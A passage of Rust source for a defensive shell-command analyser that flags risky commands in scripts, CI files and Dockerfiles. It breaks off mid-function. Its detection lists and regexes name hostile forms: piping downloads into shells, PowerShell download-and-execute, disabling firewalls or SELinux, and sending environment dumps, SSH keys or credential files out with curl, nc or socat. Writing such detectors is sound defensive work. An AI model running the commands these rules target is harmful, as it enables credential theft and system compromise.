//! The shell-command analyser shared by every place commands live: shell scripts, Makefile
//! recipes, Dockerfile `RUN`, workflow `run:` steps, package.json scripts, and the command
//! strings code hands to `subprocess`/`child_process`/`Command`.
//!
//! A logical line is split into pipelines of commands (quotes, `$(…)` and backticks kept
//! whole); each command is judged by its program and arguments. Where the command runs
//! ([`Place`]) decides what matters: a developer's machine (everything), an ephemeral CI
//! runner (only downloads run unverified, secrets sent out, deleting the home directory), or
//! an image build (downloads run unverified and secrets sent out).

use super::values::{is_secret_name, regex};
use crate::finding::Severity;
use regex::Regex;
use std::collections::HashSet;
use std::sync::OnceLock;

/// Where a command runs, which decides what "outside the repository" can harm.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Place {
    /// A developer's machine: tests, scripts, build and lifecycle scripts, Makefiles, hooks.
    Developer,
    /// A CI runner, discarded after the job (GitHub workflow steps, other CI files).
    Runner,
    /// A container image build (Dockerfile `RUN`): the image is the product, not a machine.
    Image,
}

/// What kind of outside state a command touches.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Category {
    StartupFile,
    Scheduler,
    Ssh,
    SystemConfig,
    Sudo,
    Permissions,
    Delete,
    PipeToShell,
    GitGlobal,
    Security,
    Kill,
    Exfiltration,
}

impl Category {
    /// The finding key's prefix.
    pub fn key(self) -> &'static str {
        match self {
            Category::StartupFile => "startup-file",
            Category::Scheduler => "scheduler",
            Category::Ssh => "ssh",
            Category::SystemConfig => "etc",
            Category::Sudo => "sudo",
            Category::Permissions => "chmod",
            Category::Delete => "rm",
            Category::PipeToShell => "pipe-to-shell",
            Category::GitGlobal => "git-global",
            Category::Security => "security-off",
            Category::Kill => "kill",
            Category::Exfiltration => "exfiltration",
        }
    }
}

/// One finding of the analyser.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hit {
    pub category: Category,
    pub severity: Severity,
    /// What the command does, as a clause (`writes to the shell startup file `~/.bashrc``).
    pub message: String,
}

/// One command of a pipeline: its words (quotes removed) and the targets of its output
/// redirections.
#[derive(Clone, Debug, Default)]
pub struct Command {
    pub words: Vec<String>,
    pub redirects: Vec<String>,
    /// Whether the command was prefixed with `sudo`/`doas`.
    pub sudo: bool,
}

impl Command {
    /// The program, after `sudo`, `env VAR=…`, assignments and wrappers.
    pub fn program(&self) -> &str {
        self.words
            .first()
            .map_or("", |word| word.rsplit(['/', '\\']).next().unwrap_or(word))
    }

    /// The words after the program.
    pub fn args(&self) -> &[String] {
        self.words.get(1..).unwrap_or_default()
    }
}

/// Commands joined by `|`.
pub type Pipeline = Vec<Command>;

/// Splits a logical line into pipelines (separated by `;`, `&&`, `||`, `&`), honouring quotes,
/// `$(…)`, `<(…)` and backticks.
pub fn parse(line: &str) -> Vec<Pipeline> {
    let mut pipelines = Vec::new();
    let mut pipeline: Pipeline = Vec::new();
    let mut words: Vec<String> = Vec::new();
    let mut redirects = Vec::new();
    let mut current = String::new();
    let mut has_word = false;
    let mut redirect_next = false;
    let mut quote: Option<char> = None;
    let mut depth = 0usize;
    let chars: Vec<char> = line.chars().collect();
    let mut index = 0;
    let finish_word = |current: &mut String,
                       has_word: &mut bool,
                       redirect_next: &mut bool,
                       words: &mut Vec<String>,
                       redirects: &mut Vec<String>| {
        if *has_word || !current.is_empty() {
            let word = std::mem::take(current);
            if *redirect_next {
                redirects.push(word);
                *redirect_next = false;
            } else {
                words.push(word);
            }
        }
        *has_word = false;
    };
    let finish_command =
        |words: &mut Vec<String>, redirects: &mut Vec<String>, pipeline: &mut Pipeline| {
            let command = command(std::mem::take(words), std::mem::take(redirects));
            if !command.words.is_empty() || !command.redirects.is_empty() {
                pipeline.push(command);
            }
        };
    while index < chars.len() {
        let c = chars[index];
        let next = chars.get(index + 1).copied();
        if let Some(open) = quote {
            if c == '\\' && open != '\'' {
                if let Some(next) = next {
                    current.push(next);
                }
                index += 2;
                continue;
            }
            if c == open {
                quote = None;
            } else {
                current.push(c);
            }
            index += 1;
            continue;
        }
        if depth > 0 {
            match c {
                '(' => depth += 1,
                ')' => depth -= 1,
                _ => {}
            }
            current.push(c);
            index += 1;
            continue;
        }
        match c {
            '\\' => {
                if let Some(next) = next {
                    current.push(next);
                }
                index += 2;
                continue;
            }
            '"' | '\'' => {
                quote = Some(c);
                has_word = true;
            }
            '`' => {
                // Backticks: kept whole as a command substitution.
                let end = chars[index + 1..].iter().position(|c| *c == '`');
                let end = end.map_or(chars.len(), |end| index + 1 + end);
                current.push_str("$(");
                current.extend(&chars[index + 1..end]);
                current.push(')');
                index = end + 1;
                continue;
            }
            '$' | '<' if next == Some('(') => {
                current.push(c);
                current.push('(');
                depth = 1;
                index += 2;
                continue;
            }
            '#' if current.is_empty() && !has_word => break,
            c if c.is_whitespace() || c == '(' || c == ')' => {
                finish_word(
                    &mut current,
                    &mut has_word,
                    &mut redirect_next,
                    &mut words,
                    &mut redirects,
                );
            }
            '|' | '&' | ';' => {
                finish_word(
                    &mut current,
                    &mut has_word,
                    &mut redirect_next,
                    &mut words,
                    &mut redirects,
                );
                let doubled = next == Some(c);
                if c == '&' && next == Some('>') {
                    redirect_next = true;
                    index += if chars.get(index + 2) == Some(&'>') {
                        3
                    } else {
                        2
                    };
                    continue;
                }
                finish_command(&mut words, &mut redirects, &mut pipeline);
                if (c != '|' || doubled) && !pipeline.is_empty() {
                    pipelines.push(std::mem::take(&mut pipeline));
                }
                index += if doubled { 2 } else { 1 };
                continue;
            }
            '>' => {
                // `2>&1`, `>&2`: a descriptor, not a file.
                let descriptor = current.chars().all(|c| c.is_ascii_digit());
                if descriptor {
                    current.clear();
                    has_word = false;
                } else {
                    finish_word(
                        &mut current,
                        &mut has_word,
                        &mut redirect_next,
                        &mut words,
                        &mut redirects,
                    );
                }
                let mut skip = 1;
                if next == Some('>') {
                    skip = 2;
                }
                if chars.get(index + skip) == Some(&'&') {
                    // `>&2`
                    index += skip + 1;
                    while index < chars.len() && chars[index].is_ascii_digit() {
                        index += 1;
                    }
                    continue;
                }
                redirect_next = true;
                index += skip;
                continue;
            }
            _ => current.push(c),
        }
        index += 1;
    }
    finish_word(
        &mut current,
        &mut has_word,
        &mut redirect_next,
        &mut words,
        &mut redirects,
    );
    finish_command(&mut words, &mut redirects, &mut pipeline);
    if !pipeline.is_empty() {
        pipelines.push(pipeline);
    }
    pipelines
}

/// A command from its words: `sudo`, `env A=B`, assignments and wrappers stripped.
fn command(mut words: Vec<String>, redirects: Vec<String>) -> Command {
    let mut sudo = false;
    while let Some(first) = words.first() {
        let assignment = first.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        });
        match first.as_str() {
            "sudo" | "doas" => {
                sudo = true;
                words.remove(0);
                // sudo's own options (`-E`, `-u root`).
                while words.first().is_some_and(|word| word.starts_with('-')) {
                    let option = words.remove(0);
                    if matches!(option.as_str(), "-u" | "-g" | "-C" | "-h" | "-p")
                        && !words.is_empty()
                    {
                        words.remove(0);
                    }
                }
            }
            "env" if words.len() > 1 => {
                words.remove(0);
                while words.first().is_some_and(|word| word.starts_with('-')) {
                    words.remove(0);
                }
            }
            "exec" | "nohup" | "time" | "command" | "builtin" | "nice" | "then" | "do" | "else"
            | "!" | "{" | "(" => {
                words.remove(0);
            }
            _ if assignment && words.len() > 1 => {
                words.remove(0);
            }
            _ => break,
        }
    }
    Command {
        words,
        redirects,
        sudo,
    }
}

/// What the file around a line tells the analyser.
#[derive(Default)]
pub struct Scope {
    /// Variables the file assigns a non-empty literal (`BUILD=build`), so `rm -rf "$BUILD/"`
    /// cannot expand to `/`.
    pub assigned: HashSet<String>,
}

impl Scope {
    /// Reads the variables a script assigns literal values.
    pub fn of_script(text: &str) -> Scope {
        static ASSIGN: OnceLock<Option<Regex>> = OnceLock::new();
        let mut assigned = HashSet::new();
        if let Some(pattern) = regex(
            &ASSIGN,
            r#"(?m)^\s*(?:export\s+|local\s+|readonly\s+|declare\s+(?:-\w+\s+)?)?([A-Za-z_][A-Za-z0-9_]*)\s*[:?]?=\s*["']?([^\s"'$;]|\$\()"#,
        ) {
            for captures in pattern.captures_iter(text) {
                if let Some(name) = captures.get(1) {
                    assigned.insert(name.as_str().to_string());
                }
            }
        }
        // `: "${DIR:?}"`, `[ -n "$DIR" ] ||` and `set -u` make an empty value fail first.
        static GUARD: OnceLock<Option<Regex>> = OnceLock::new();
        if let Some(pattern) = regex(
            &GUARD,
            r#"\$\{([A-Za-z_][A-Za-z0-9_]*):?\?|-[nz]\s+"?\$\{?([A-Za-z_][A-Za-z0-9_]*)"#,
        ) {
            for captures in pattern.captures_iter(text) {
                if let Some(name) = captures.get(1).or_else(|| captures.get(2)) {
                    assigned.insert(name.as_str().to_string());
                }
            }
        }
        Scope { assigned }
    }
}

/// Every hit on one logical command line.
pub fn analyse(line: &str, place: Place, scope: &Scope) -> Vec<Hit> {
    let mut hits = Vec::new();
    let line = line.trim();
    if line.is_empty() || line.starts_with('#') {
        return hits;
    }
    raw_pipes(line, place, &mut hits);
    for pipeline in parse(line) {
        pipe_to_shell(&pipeline, place, &mut hits);
        for (index, command) in pipeline.iter().enumerate() {
            let before = index.checked_sub(1).and_then(|index| pipeline.get(index));
            judge(command, before, place, scope, &mut hits);
            // `sh -c "…"`, `bash -c '…'`: the inner script is judged too.
            if matches!(command.program(), "sh" | "bash" | "zsh" | "dash")
                && let Some(position) = command.args().iter().position(|arg| arg == "-c")
                && let Some(inner) = command.args().get(position + 1)
            {
                for hit in analyse(inner, place, scope) {
                    hits.push(hit);
                }
            }
        }
    }
    let mut seen = HashSet::new();
    hits.retain(|hit| seen.insert((hit.category, hit.message.clone())));
    hits
}

fn push(hits: &mut Vec<Hit>, place: Place, category: Category, message: String) {
    if let Some(severity) = severity(place, category) {
        hits.push(Hit {
            category,
            severity,
            message,
        });
    }
}

/// What each place cares about. On a runner or in an image build the machine is thrown away
/// (or is the product), so writes to `/etc`, `sudo`, global git config and known_hosts are
/// routine there; a script fetched and run unverified is still a supply-chain risk (warning),
/// and secrets sent out are as leaked as anywhere (error).
fn severity(place: Place, category: Category) -> Option<Severity> {
    match (place, category) {
        (_, Category::Exfiltration) => Some(Severity::Error),
        (Place::Developer, _) => Some(Severity::Error),
        (Place::Runner | Place::Image, Category::PipeToShell) => Some(Severity::Warning),
        (Place::Runner, Category::Delete) => Some(Severity::Warning),
        _ => None,
    }
}

const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "iwr",
    "irm",
    "Invoke-WebRequest",
    "Invoke-RestMethod",
    "http",
    "https",
    "aria2c",
];

const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "iex",
    "Invoke-Expression",
    "pwsh",
    "powershell",
];

const INTERPRETERS: &[&str] = &[
    "python", "python3", "python2", "perl", "ruby", "node", "php", "deno", "bun",
];

/// `curl … | sh`, `wget -O- … | sudo bash`, `… | python3 -`.
fn pipe_to_shell(pipeline: &Pipeline, place: Place, hits: &mut Vec<Hit>) {
    let Some(download) = pipeline
        .iter()
        .position(|command| DOWNLOADERS.contains(&command.program()))
    else {
        return;
    };
    for command in &pipeline[download + 1..] {
        let program = command.program();
        let runs_stdin = SHELLS.contains(&program) && !command.args().iter().any(|arg| arg == "-n")
            || INTERPRETERS.contains(&program)
                && command
                    .args()
                    .iter()
                    .all(|arg| arg == "-" || !arg.starts_with('-'))
                && command
                    .args()
                    .iter()
                    .all(|arg| arg == "-" || arg.starts_with('-'));
        if runs_stdin {
            let url = url_of(&pipeline[download]);
            push(
                hits,
                place,
                Category::PipeToShell,
                format!("downloads {url} and pipes it into `{program}` unverified"),
            );
            return;
        }
    }
}

fn url_of(command: &Command) -> String {
    command
        .args()
        .iter()
        .find(|arg| arg.contains("://"))
        .map_or_else(
            || "a script".to_string(),
            |url| format!("`{}`", crate::rules::markers::shorten(url, 60)),
        )
}

/// Forms the pipeline split cannot see: `sh -c "$(curl …)"`, `bash <(curl …)`,
/// `eval "$(wget …)"`, `iex (iwr …)`, `iex ((New-Object Net.WebClient).DownloadString(…))`.
fn raw_pipes(line: &str, place: Place, hits: &mut Vec<Hit>) {
    static PATTERN: OnceLock<Option<Regex>> = OnceLock::new();
    let Some(pattern) = regex(
        &PATTERN,
        r#"(?i)(?:\b(?:sh|bash|zsh|dash)\s+-c\s+["']?\$\(\s*(?:curl|wget)\b|\b(?:sh|bash|zsh|source|\.)\s+<\(\s*(?:curl|wget)\b|\beval\s+["']?\$\(\s*(?:curl|wget)\b|\b(?:iex|Invoke-Expression)\s*\(+\s*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|New-Object\s+(?:System\.)?Net\.WebClient)|\.DownloadString\([^)]*\)\s*\|\s*(?:iex|Invoke-Expression)|\|\s*(?:iex|Invoke-Expression)\s*$)"#,
    ) else {
        return;
    };
    if pattern.is_match(line) {
        push(
            hits,
            place,
            Category::PipeToShell,
            "downloads a script and runs it unverified".to_string(),
        );
    }
}

fn judge(
    command: &Command,
    before: Option<&Command>,
    place: Place,
    scope: &Scope,
    hits: &mut Vec<Hit>,
) {
    let program = command.program();
    let args = command.args();
    if command.sudo {
        let installs = matches!(
            program,
            "apt"
                | "apt-get"
                | "yum"
                | "dnf"
                | "pacman"
                | "zypper"
                | "apk"
                | "snap"
                | "port"
                | "brew"
        );
        // A package install is the one routine use of sudo in a setup script: a warning.
        let severity = if installs {
            Severity::Warning
        } else {
            Severity::Error
        };
        if place == Place::Developer {
            hits.push(Hit {
                category: Category::Sudo,
                severity,
                message: format!("runs `sudo {}` on the developer's machine", shown(command)),
            });
        }
    }
    if program == "su" && args.iter().any(|arg| arg == "-c") {
        push(
            hits,
            place,
            Category::Sudo,
            "runs a command as another user with `su -c`".to_string(),
        );
    }
    for target in write_targets(command) {
        if let Some((category, what)) = sensitive_target(&target) {
            push(
                hits,
                place,
                category,
                format!("writes to {what} `{target}`"),
            );
        }
    }
    match program {
        // Anything but listing (`crontab -l`) replaces or edits the user's crontab.
        "crontab" if !args.iter().any(|arg| arg == "-l") => {
            push(
                hits,
                place,
                Category::Scheduler,
                "installs a crontab".to_string(),
            );
        }
        "systemctl" => systemctl(args, place, hits),
        "launchctl"
            if args.first().is_some_and(|verb| {
                matches!(verb.as_str(), "load" | "bootstrap" | "submit" | "enable")
            }) =>
        {
            push(
                hits,
                place,
                Category::Scheduler,
                "loads a launchd job with `launchctl`".to_string(),
            );
        }
        "chmod" | "chown" | "chgrp" => permissions(command, scope, place, hits),
        "rm" | "Remove-Item" | "rmdir" => remove(command, scope, place, hits),
        "git" => git(args, place, hits),
        "pkill" | "killall" => push(
            hits,
            place,
            Category::Kill,
            format!("kills processes by name with `{}`", shown(command)),
        ),
        "kill" if args.iter().any(|arg| arg == "-1") => {
            push(
                hits,
                place,
                Category::Kill,
                "kills every process it may (`kill -1`)".to_string(),
            );
        }
        "taskkill" if args.iter().any(|arg| arg.eq_ignore_ascii_case("/im")) => push(
            hits,
            place,
            Category::Kill,
            format!("kills processes by image name with `{}`", shown(command)),
        ),
        _ => {}
    }
    security_off(command, place, hits);
    exfiltration(command, before, place, hits);
}

fn shown(command: &Command) -> String {
    crate::rules::markers::shorten(&command.words.join(" "), 60)
}

/// The files a command writes: redirect targets, `tee`'s files, the destination of
/// `cp`/`mv`/`ln`/`install`/`rsync`, `sed -i`'s files, `touch`/`dd of=`.
fn write_targets(command: &Command) -> Vec<String> {
    let mut targets = command.redirects.clone();
    let args: Vec<&String> = command
        .args()
        .iter()
        .filter(|arg| !arg.starts_with('-'))
        .collect();
    match command.program() {
        "tee" | "touch" | "truncate" => targets.extend(args.iter().map(|arg| (*arg).clone())),
        "cp" | "mv" | "ln" | "install" | "rsync" | "scp" | "Copy-Item" | "Move-Item" => {
            if args.len() >= 2
                && let Some(last) = args.last()
            {
                targets.push((*last).clone());
            }
        }
        "sed" | "perl"
            if command
                .args()
                .iter()
                .any(|arg| arg.starts_with("-i") || arg == "--in-place") =>
        {
            targets.extend(args.iter().skip(1).map(|arg| (*arg).clone()));
        }
        "dd" => targets.extend(
            command
                .args()
                .iter()
                .filter_map(|arg| arg.strip_prefix("of="))
                .map(str::to_string),
        ),
        "Add-Content" | "Set-Content" | "Out-File" => {
            targets.extend(args.iter().map(|arg| (*arg).clone()))
        }
        _ => {}
    }
    targets
}

/// A home-relative path's rest: `~/.bashrc`, `$HOME/.bashrc`, `${HOME}/.bashrc`, `/root/x`.
fn home_relative(path: &str) -> Option<&str> {
    for prefix in [
        "~/",
        "$HOME/",
        "${HOME}/",
        "$(HOME)/",
        "/root/",
        "$env:USERPROFILE\\",
        "$env:HOME/",
        "%USERPROFILE%\\",
    ] {
        if let Some(rest) = path.strip_prefix(prefix) {
            return Some(rest);
        }
    }
    let rest = path
        .strip_prefix("/home/")
        .or_else(|| path.strip_prefix("/Users/"))?;
    rest.split_once('/').map(|(_, rest)| rest)
}

const STARTUP_FILES: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zprofile",
    ".zshenv",
    ".zlogin",
    ".kshrc",
    ".cshrc",
    ".tcshrc",
    ".config/fish/config.fish",
    "Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1",
];

/// What a path outside the repository is, for messages; `None` for paths a build may write.
pub fn sensitive_target(path: &str) -> Option<(Category, &'static str)> {
    let path = path.trim_matches(['"', '\'']);
    if let Some(rest) = home_relative(path) {
        let rest = rest.trim_start_matches("./");
        if STARTUP_FILES.contains(&rest) {
            return Some((Category::StartupFile, "the shell startup file"));
        }
        if rest == ".ssh" || rest.starts_with(".ssh/") {
            return Some((Category::Ssh, "the SSH configuration"));
        }
        if rest.starts_with(".config/systemd/") {
            return Some((Category::Scheduler, "a systemd user unit"));
        }
        if rest.starts_with("Library/LaunchAgents/") {
            return Some((Category::Scheduler, "a launchd agent"));
        }
        if rest == ".gitconfig" || rest.starts_with(".config/git/") {
            return Some((Category::GitGlobal, "the global git configuration"));
        }
        return None;
    }
    if [
        "/etc/profile",
        "/etc/bash.bashrc",
        "/etc/zsh",
        "/etc/environment",
    ]
    .iter()
    .any(|prefix| path.starts_with(prefix))
    {
        return Some((Category::StartupFile, "the system shell startup file"));
    }
    if path.starts_with("/etc/cron") || path.starts_with("/var/spool/cron") {
        return Some((Category::Scheduler, "the system crontab"));
    }
    if ["/etc/systemd/", "/lib/systemd/", "/usr/lib/systemd/"]
        .iter()
        .any(|prefix| path.starts_with(prefix))
    {
        return Some((Category::Scheduler, "a systemd unit"));
    }
    if path.starts_with("/Library/LaunchDaemons/") || path.starts_with("/Library/LaunchAgents/") {
        return Some((Category::Scheduler, "a launchd job"));
    }
    if path.starts_with("/etc/") {
        return Some((Category::SystemConfig, "the system configuration file"));
    }
    None
}

fn systemctl(args: &[String], place: Place, hits: &mut Vec<Hit>) {
    let words: Vec<&str> = args
        .iter()
        .map(String::as_str)
        .filter(|arg| !arg.starts_with('-'))
        .collect();
    let Some((verb, units)) = words.split_first() else {
        return;
    };
    const GUARDS: &[&str] = &[
        "firewalld",
        "ufw",
        "apparmor",
        "iptables",
        "nftables",
        "auditd",
        "selinux",
    ];
    let guard = units.iter().find(|unit| {
        GUARDS
            .iter()
            .any(|guard| unit.trim_end_matches(".service") == *guard)
    });
    match (*verb, guard) {
        ("stop" | "disable" | "mask" | "kill", Some(unit)) => {
            push(
                hits,
                place,
                Category::Security,
                format!("switches off `{unit}`"),
            );
        }
        ("enable" | "start" | "link" | "daemon-reload" | "edit" | "restart", _) => push(
            hits,
            place,
            Category::Scheduler,
            format!("changes system services (`systemctl {}`)", words.join(" ")),
        ),
        _ => {}
    }
}

/// Whether a path is outside the repository: absolute (and not a temporary directory), in the
/// home directory, or an unguarded variable that may expand to `/`.
fn outside_repo(path: &str, scope: &Scope) -> bool {
    let path = path.trim_matches(['"', '\'']);
    if path.starts_with("/tmp")
        || path.starts_with("/var/tmp")
        || path.starts_with("$TMPDIR")
        || path.starts_with("${TMPDIR")
        || path.starts_with("$RUNNER_TEMP")
    {
        return false;
    }
    path.starts_with('/')
        || path.starts_with('~')
        || path.starts_with("$HOME")
        || path.starts_with("${HOME}")
        || unguarded(path, scope).is_some()
}

/// `$DIR/…` or `${DIR}/…` where `DIR` may be empty, so the path becomes `/…`.
fn unguarded<'p>(path: &'p str, scope: &Scope) -> Option<&'p str> {
    let rest = path.strip_prefix('$')?;
    let (name, after) = match rest.strip_prefix('{') {
        Some(braced) => {
            let end = braced.find('}')?;
            let inner = &braced[..end];
            if inner.contains([':', '?', '-', '=', '+']) {
                return None; // `${DIR:?}`, `${DIR:-build}`: guarded or defaulted
            }
            (inner, &braced[end + 1..])
        }
        None => {
            let end = rest
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(rest.len());
            (&rest[..end], &rest[end..])
        }
    };
    let empty_is_root = after.starts_with('/');
    let builtin = matches!(
        name,
        "HOME" | "PWD" | "TMPDIR" | "RUNNER_TEMP" | "GITHUB_WORKSPACE" | "CI_PROJECT_DIR"
    );
    (empty_is_root && !name.is_empty() && !builtin && !scope.assigned.contains(name))
        .then_some(name)
}

fn permissions(command: &Command, scope: &Scope, place: Place, hits: &mut Vec<Hit>) {
    let args = command.args();
    let recursive = args.iter().any(|arg| {
        arg == "-R" || arg == "--recursive" || (arg.starts_with('-') && arg.contains('R'))
    });
    let open = args.iter().any(|arg| {
        matches!(
            arg.as_str(),
            "777" | "0777" | "666" | "0666" | "a+rwx" | "ugo+rwx" | "o+w" | "a+w" | "o+rwx"
        )
    });
    if !(recursive || open) {
        return;
    }
    let targets: Vec<&String> = args
        .iter()
        .filter(|arg| !arg.starts_with('-'))
        .skip(1)
        .collect();
    if let Some(target) = targets.iter().find(|target| outside_repo(target, scope)) {
        push(
            hits,
            place,
            Category::Permissions,
            format!(
                "changes permissions outside the repository (`{}` on `{target}`)",
                shown(command)
            ),
        );
    }
}

fn remove(command: &Command, scope: &Scope, place: Place, hits: &mut Vec<Hit>) {
    let args = command.args();
    let recursive = args.iter().any(|arg| {
        arg == "--recursive"
            || arg == "-Recurse"
            || arg == "--no-preserve-root"
            || (arg.starts_with('-')
                && !arg.starts_with("--")
                && (arg.contains('r') || arg.contains('R')))
    }) || command.program() == "Remove-Item";
    if !recursive {
        return;
    }
    for target in args.iter().filter(|arg| !arg.starts_with('-')) {
        let bare = target.trim_end_matches(['*', '/']);
        let catastrophic = bare.is_empty()
            || matches!(
                bare,
                "~" | "$HOME"
                    | "${HOME}"
                    | "$env:USERPROFILE"
                    | "/home"
                    | "/usr"
                    | "/etc"
                    | "/var"
                    | "/bin"
                    | "/lib"
                    | "/opt"
                    | "/root"
                    | "/boot"
                    | "/Users"
                    | "/System"
                    | "C:"
                    | "C:\\"
            )
            || args.iter().any(|arg| arg == "--no-preserve-root");
        if catastrophic {
            push(
                hits,
                place,
                Category::Delete,
                format!("deletes `{target}` recursively"),
            );
            continue;
        }
        if place != Place::Developer {
            continue;
        }
        if let Some(name) = unguarded(target, scope) {
            push(
                hits,
                place,
                Category::Delete,
                format!(
                    "deletes `{target}` recursively, which is `/…` when `{name}` is empty or unset"
                ),
            );
        } else if let Some((_, what)) = sensitive_target(target) {
            push(
                hits,
                place,
                Category::Delete,
                format!("deletes {what} `{target}`"),
            );
        }
    }
}

fn git(args: &[String], place: Place, hits: &mut Vec<Hit>) {
    let mut args = args;
    while let [option, value, rest @ ..] = args
        && matches!(option.as_str(), "-C" | "-c" | "--git-dir" | "--work-tree")
    {
        let _ = value;
        args = rest;
    }
    let Some((verb, rest)) = args.split_first() else {
        return;
    };
    if verb != "config" {
        return;
    }
    let reads = rest.iter().any(|arg| {
        matches!(
            arg.as_str(),
            "--get"
                | "--get-all"
                | "--get-regexp"
                | "--list"
                | "-l"
                | "--show-origin"
                | "get"
                | "list"
        )
    });
    if reads {
        return;
    }
    if let Some(scope) = rest
        .iter()
        .find(|arg| matches!(arg.as_str(), "--global" | "--system"))
    {
        push(
            hits,
            place,
            Category::GitGlobal,
            format!(
                "changes the {} git configuration (`git config {}`)",
                &scope[2..],
                rest.join(" ")
            ),
        );
        return;
    }
    if let Some(position) = rest
        .iter()
        .position(|arg| arg.eq_ignore_ascii_case("core.hooksPath"))
        && let Some(value) = rest.get(position + 1)
        && (value.starts_with('/') || value.starts_with('~') || value.starts_with("$HOME"))
    {
        push(
            hits,
            place,
            Category::GitGlobal,
            format!("points git hooks outside the repository (`core.hooksPath {value}`)"),
        );
    }
}

fn security_off(command: &Command, place: Place, hits: &mut Vec<Hit>) {
    let program = command.program();
    let args: Vec<&str> = command.args().iter().map(String::as_str).collect();
    let what = match (program, args.as_slice()) {
        ("ufw", ["disable", ..]) => Some("the ufw firewall"),
        ("setenforce", ["0" | "Permissive" | "permissive", ..]) => Some("SELinux enforcement"),
        ("iptables" | "ip6tables", args)
            if args.iter().any(|arg| matches!(*arg, "-F" | "--flush")) =>
        {
            Some("the firewall rules (`iptables -F`)")
        }
        ("iptables" | "ip6tables", ["-P", _, "ACCEPT", ..]) => {
            Some("the firewall's default policy")
        }
        ("aa-teardown", _) => Some("AppArmor"),
        ("aa-disable" | "aa-complain", _) => Some("an AppArmor profile"),
        ("service", [unit, "stop", ..])
            if matches!(*unit, "ufw" | "firewalld" | "apparmor" | "iptables") =>
        {
            Some("a firewall or AppArmor service")
        }
        ("netsh", args)
            if args
                .iter()
                .any(|arg| arg.eq_ignore_ascii_case("advfirewall"))
                && args.iter().any(|arg| arg.eq_ignore_ascii_case("off")) =>
        {
            Some("the Windows firewall")
        }
        ("Set-NetFirewallProfile", args)
            if args.iter().any(|arg| arg.eq_ignore_ascii_case("False")) =>
        {
            Some("the Windows firewall")
        }
        ("Set-MpPreference", args) if args.iter().any(|arg| arg.starts_with("-Disable")) => {
            Some("Windows Defender")
        }
        ("spctl", ["--master-disable", ..]) => Some("Gatekeeper"),
        ("csrutil", ["disable", ..]) => Some("System Integrity Protection"),
        _ => None,
    };
    if let Some(what) = what {
        push(
            hits,
            place,
            Category::Security,
            format!("switches off {what}"),
        );
    }
}

const NETWORK_TOOLS: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "http",
    "https",
    "Invoke-WebRequest",
    "iwr",
    "Invoke-RestMethod",
    "irm",
];

/// Options whose value is the request body.
const DATA_OPTIONS: &[&str] = &[
    "-d",
    "--data",
    "--data-raw",
    "--data-binary",
    "--data-urlencode",
    "--data-ascii",
    "-F",
    "--form",
    "--form-string",
    "--json",
    "-T",
    "--upload-file",
    "--post-data",
    "--body-data",
    "--post-file",
    "--body-file",
    "-Body",
    "-InFile",
];

/// What an argument sends that it should not: the environment, SSH keys, a `.env` file or a
/// secret-named variable.
fn secret_payload(value: &str) -> Option<String> {
    static ENV: OnceLock<Option<Regex>> = OnceLock::new();
    if regex(&ENV, r"\$\(\s*(?:env|printenv|set|export\s+-p)\s*\)|@/proc/self/environ|/proc/self/environ|\$\(\s*cat\s+[^)]*(?:\.ssh/|\.env\b|\.aws/credentials|\.npmrc|\.netrc|\.git-credentials)|^@[^\s]*(?:\.ssh/|\.env$|\.aws/credentials|\.npmrc|\.netrc|\.git-credentials)|\$env:|\bGet-ChildItem\s+env:")
        .is_some_and(|pattern| pattern.is_match(value))
    {
        return Some("the environment or a credential file".to_string());
    }
    secret_variables(value)
        .into_iter()
        .next()
        .map(|name| format!("`{name}`"))
}

/// The secret-named variables a shell word expands: `$API_TOKEN`, `${DB_PASSWORD}`,
/// `${{ secrets.NPM_TOKEN }}`.
pub fn secret_variables(text: &str) -> Vec<String> {
    static VARIABLE: OnceLock<Option<Regex>> = OnceLock::new();
    let Some(pattern) = regex(
        &VARIABLE,
        r"\$\{\{\s*secrets\.([A-Za-z_][A-Za-z0-9_]*)\s*\}\}|\$\{([A-Za-z_][A-Za-z0-9_]*)\}|\$([A-Za-z_][A-Za-z0-9_]*)|\$env:([A-Za-z_][A-Za-z0-9_]*)|%([A-Za-z_][A-Za-z0-9_]*)%",
    ) else {
        return Vec::new();
    };
    pattern
        .captures_iter(text)
        .filter_map(|captures| {
            if let Some(name) = captures.get(1) {
                return Some(format!("secrets.{}", name.as_str()));
            }
            let name = captures
                .get(2)
                .or_else(|| captures.get(3))
                .or_else(|| captures.get(4))
                .or_else(|| captures.get(5))?;
            is_secret_name(name.as_str()).then(|| name.as_str().to_string())
        })
        .collect()
}

fn exfiltration(command: &Command, before: Option<&Command>, place: Place, hits: &mut Vec<Hit>) {
    let program = command.program();
    if !NETWORK_TOOLS.contains(&program) {
        return;
    }
    if let Some(before) = before {
        let dumps_env = matches!(before.program(), "env" | "printenv" | "set")
            && before.args().is_empty()
            || before.program() == "export" && before.args().iter().any(|arg| arg == "-p");
        let reads_keys = matches!(before.program(), "cat" | "base64" | "gzip" | "tar")
            && before.args().iter().any(|arg| {
                arg.contains(".ssh/")
                    || arg.ends_with(".env")
                    || arg.contains(".aws/credentials")
                    || arg.contains("/proc/self/environ")
                    || arg.contains(".netrc")
            });
        if dumps_env || reads_keys {
            push(
                hits,
                place,
                Category::Exfiltration,
                format!(
                    "sends {} to a network endpoint with `{program}`",
                    if dumps_env {
                        "the environment"
                    } else {
                        "a credential file"
                    }
                ),
            );
            return;
        }
    }
    let args = command.args();
    for (index, arg) in args.iter().enumerate() {
        let (option, value) = match arg.split_once('=') {
            Some((option, value)) if option.starts_with("--") => (option, Some(value.to_string())),
            _ => (arg.as_str(), args.get(index + 1).cloned()),
        };
        // `-dvalue` attached.
        let (option, value) =
            if option.len() > 2 && option.starts_with("-d") && !option.starts_with("--") {
                ("-d", Some(option[2..].to_string()))
            } else {
